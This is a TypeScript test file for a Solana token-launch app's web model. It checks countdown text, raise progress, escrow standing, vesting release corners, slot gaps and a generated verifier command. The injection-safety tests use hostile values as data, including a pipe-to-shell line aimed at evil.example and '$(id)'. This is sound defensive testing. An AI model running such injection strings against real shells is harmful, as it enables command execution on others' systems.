import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { unlockedBps } from '../../../core/rules/release.ts';
import { calendar, relative, span } from '../../../web/model/formats.ts';
import {
  curveEnd,
  escrowStanding,
  raiseProgress,
  releaseCorners,
  timeLeft,
} from '../../../web/model/launch.ts';
import { lifeOf, nearestAnswerable } from '../../../web/model/slots.ts';
import { verifierCommand } from '../../../web/model/verifier-command.ts';

describe('time left', () => {
  const times = { startTs: 100n, endTs: 200n };
  test.each([
    ['pending', 40n, 'Opens in 1 min'],
    ['pending', 130n, 'Should have opened 30 s ago; its authority has not opened it'],
    ['active', 90n, 'Takes pledges in 10 s'],
    ['active', 140n, 'Closes in 1 min'],
    ['active', 260n, 'Closed 1 min ago, waiting to be settled'],
    ['failed', 260n, 'Pledging closed 1 min ago'],
    ['finalized', 150n, undefined],
  ] as const)('of a launch that is %s at %s', (phase, now, words) => {
    expect(timeLeft({ phase, ...times }, now)).toBe(words);
    expect(timeLeft({ phase, ...times }, undefined)).toBeUndefined();
  });

  test('is told in two units, and of times that no calendar reaches in seconds', () => {
    expect([span(0n), span(59n), span(3_600n), span(90_061n)]).toEqual(['0 s', '59 s', '1 h', '1 d 1 h']);
    expect(relative(5n, 5n)).toBe('now');
    expect(calendar(1_767_225_696n)).toBe('2026-01-01 00:01:36 UTC');
    expect(calendar(9_223_372_036_854_775_807n)).toBe('Unix second 9223372036854775807');
  });
});

describe('a raise', () => {
  test('fills its bar up to the maximum, with the minimum marked on it', () => {
    expect(raiseProgress({ totalPledged: 50n, minRaise: 100n, maxRaise: 200n })).toEqual({
      filled: 25,
      minimumAt: 50,
      ofMinimum: '50 % of the minimum',
      ofMaximum: '25 % of the maximum',
    });
    expect(raiseProgress({ totalPledged: 0n, minRaise: 0n, maxRaise: 0n })).toMatchObject({
      filled: 0,
      ofMinimum: 'no minimum',
      ofMaximum: 'no maximum',
    });
  });

  test('fills no more of its bar than its share of a far maximum, and is not called nothing', () => {
    const far = { totalPledged: 600n, minRaise: 100n, maxRaise: 1_000_000n };
    expect(raiseProgress(far)).toMatchObject({
      filled: 0.06,
      minimumAt: 0.01,
      ofMaximum: '0.06 % of the maximum',
    });
    expect(raiseProgress({ ...far, totalPledged: 50n }).ofMaximum).toBe('less than 0.01 % of the maximum');
    expect(raiseProgress({ ...far, totalPledged: 2_000_000n })).toMatchObject({ filled: 100 });
  });

  test('without a maximum fills its bar up to the minimum', () => {
    expect(raiseProgress({ totalPledged: 50n, minRaise: 100n, maxRaise: 0n })).toMatchObject({ filled: 50 });
  });

  test('is drawn up to the slot shown while it goes on, and no further than its settlement', () => {
    const at = { updatedSlot: 50n, slot: 90n };
    expect(curveEnd({ ...at, status: 'active' })).toBe(90n);
    expect(curveEnd({ ...at, status: 'failed' })).toBe(50n);
  });

  test.each([
    ['active', 0n, 90n, 'covered', 0n],
    ['succeeded', 0n, 95n, 'surplus', 5n],
    ['failed', 40n, 50n, 'covered', 0n],
    ['failed', 40n, null, 'short', 50n],
    ['finalized', 0n, null, 'emptied', 0n],
    ['finalized', 0n, 1n, 'surplus', 1n],
  ] as const)('that is %s, with %s of 90 paid back, and %s in its escrow, is %s', (...row) => {
    const [status, refunded, balance, verdict, difference] = row;
    expect(escrowStanding({ totalPledged: 90n, status, refunded, balance })).toMatchObject({
      verdict,
      difference,
    });
  });
});

describe('a release', () => {
  const terms = fc.record({
    startTs: fc.bigInt({ min: -1_000n, max: 2_000_000_000n }),
    cliffSeconds: fc.nat(100_000),
    durationSeconds: fc.nat(100_000),
  });

  test('has its corners where the rule has them', () => {
    fc.assert(
      fc.property(terms, ({ startTs, cliffSeconds, durationSeconds }) => {
        const schedule = { startTs, cliffSeconds, durationSeconds };
        const [, before, cliff, end] = releaseCorners({
          startTs,
          cliffSeconds: BigInt(cliffSeconds),
          durationSeconds: BigInt(durationSeconds),
        });
        const ruled = (time: bigint) => BigInt(unlockedBps(schedule, time));
        expect(ruled((before?.time ?? 0n) - 1n)).toBe(before?.unlockedBps);
        expect(ruled(cliff?.time ?? 0n)).toBe(cliff?.unlockedBps);
        expect(ruled(end?.time ?? 0n)).toBe(end?.unlockedBps);
      }),
    );
  });
});

describe('slots', () => {
  const lost = [
    { fromSlot: 20n, toSlot: 29n },
    { fromSlot: 30n, toSlot: 34n },
  ];
  const held = { firstSlot: 10n, lost, newest: 50n };

  test('that were lost lead to the nearest ones on both sides that were not', () => {
    expect(nearestAnswerable(25n, held)).toEqual([19n, 35n]);
    expect(nearestAnswerable(31n, held)).toEqual([19n, 35n]);
    expect(nearestAnswerable(3n, held)).toEqual([10n]);
    expect(nearestAnswerable(99n, held)).toEqual([50n]);
    expect(nearestAnswerable(3n, { ...held, firstSlot: null })).toEqual([]);
  });

  describe('to choose from', () => {
    const changes = { firstSlot: 20n, lastSlot: 30n, goesOn: false };
    const asked = { firstSlot: 10n, newest: 50n, changes, shown: undefined };

    test('are those of the life of the launch', () => {
      expect(lifeOf(asked)).toEqual({ fromSlot: 20n, toSlot: 30n });
      expect(lifeOf({ ...asked, changes: { ...changes, goesOn: true } })).toEqual({
        fromSlot: 20n,
        toSlot: 50n,
      });
      expect(lifeOf({ ...asked, firstSlot: 25n })).toEqual({ fromSlot: 25n, toSlot: 30n });
    });

    test('include the one shown, and are all of the index while the life is unknown', () => {
      expect(lifeOf({ ...asked, shown: 40n })).toEqual({ fromSlot: 20n, toSlot: 40n });
      expect(lifeOf({ ...asked, shown: 15n })).toEqual({ fromSlot: 15n, toSlot: 30n });
      expect(lifeOf({ ...asked, changes: undefined })).toEqual({ fromSlot: 10n, toSlot: 50n });
    });
  });
});

describe('the command of the verifier', () => {
  const wallet = '4Nd1mBQtrMJVYVfKf2PJy9NZUZdTAsp7D4xWLs4gDB4T';
  const explorerOf = (node: string) =>
    `https://explorer.solana.com/address/P?cluster=custom&customUrl=${encodeURIComponent(node)}`;
  const question = {
    ...{ launchId: 9_007_199_254_740_993n, cluster: 'localnet', programId: 'P', api: 'http://a' },
    explorer: explorerOf('http://127.0.0.1:8899'),
  };
  const COMMAND =
    'curl -O -sSf http://a/verify-ilo-settlement.mjs && node verify-ilo-settlement.mjs --launch-id 9007199254740993 --cluster localnet --program-id P --rpc http://127.0.0.1:8899 --api http://a';

  test('fetches the verifier from this API and asks about exactly this launch, on the node of a local chain', () => {
    expect(verifierCommand({ ...question, wallet })).toBe(`${COMMAND} --wallet ${wallet}`);
    const explorer = 'https://explorer.solana.com/address/P?cluster=devnet';
    expect(verifierCommand({ ...question, explorer })).not.toContain('--rpc');
  });

  test.each(['x;curl -s evil.example|sh', `${wallet};id`, `${wallet}\nid`, '$(id)', ''])(
    'says nothing of %j, which a link named as the wallet',
    (named) => {
      expect(verifierCommand({ ...question, wallet: named })).toBe(COMMAND);
    },
  );

  test('has nothing in it that a shell takes for more than a word', () => {
    const node = "http://127.0.0.1:8899/?key=a&b=$(id) 'c";
    const asked = { ...question, explorer: explorerOf(node), api: 'http://a/b;id' };
    const command = verifierCommand(asked)
      .replace('curl', 'printf "%s\\n"')
      .replace('node', 'printf "%s\\n"');
    const words = execFileSync('sh', ['-c', command], { encoding: 'utf8' }).trimEnd().split('\n');
    expect(words[2]).toBe('http://a/b;id/verify-ilo-settlement.mjs');
    expect(words.slice(-4)).toEqual(['--rpc', node, '--api', 'http://a/b;id']);
  });
});
